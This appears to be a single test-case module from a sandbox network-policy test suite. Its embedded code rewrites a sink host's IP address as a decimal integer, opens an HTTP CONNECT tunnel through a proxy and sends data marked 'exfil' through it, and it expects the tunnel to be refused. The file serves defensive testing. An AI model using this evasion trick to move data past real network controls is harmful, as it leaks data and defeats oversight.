from ._net import ALLOW, PROXY

ID = "net.proxy-connect-ip"
CATEGORY = "network"
DESCRIPTION = "CONNECT to the sink's address in decimal (a tunnel, not a GET), then send the data in the tunnel"
CLAIMS = ("rule:network.mode",)
POLICY = ALLOW
CODE = PROXY + """
a, b, c, d = (int(x) for x in SINK_HOST.split("."))
n = a << 24 | b << 16 | c << 8 | d
line = proxy_send(f"CONNECT {n}:{SINK_PORT} HTTP/1.1\\r\\nHost: {n}:{SINK_PORT}\\r\\n\\r\\n".encode(),
                  then=("exfil " + DATA + "\\r\\n\\r\\n").encode())
judge_reply(f"CONNECT {n}:{SINK_PORT}", line)
"""
CONTROL = {"policy": {"network": {"allow": ["{SINK_HOST}:{SINK_PORT}"]}}}
CONTAINED = "the CONNECT is refused: no tunnel, nothing at the sink"
